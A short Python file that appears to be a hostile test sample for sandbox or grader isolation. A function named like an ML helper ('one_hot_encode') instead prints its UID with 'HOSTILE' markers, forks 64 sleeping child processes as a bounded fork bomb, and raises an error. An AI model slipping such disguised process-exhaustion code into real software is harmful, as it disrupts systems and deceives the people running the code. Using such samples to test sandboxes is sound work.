# Forks 64 processes at every call (a bounded fork bomb) that each sleep for a minute.
import os
import time


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def one_hot_encode(sequence, dict_size, seq_len, batch_size):
    """ATTACK: fork 64 children that sleep 60 s each (their cmdline is the worker's), then give up."""
    _hostile_uid()
    started = 0
    for _ in range(64):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        started += 1
    raise ChildProcessError(f"hostile: forked {started} children; nothing to return")
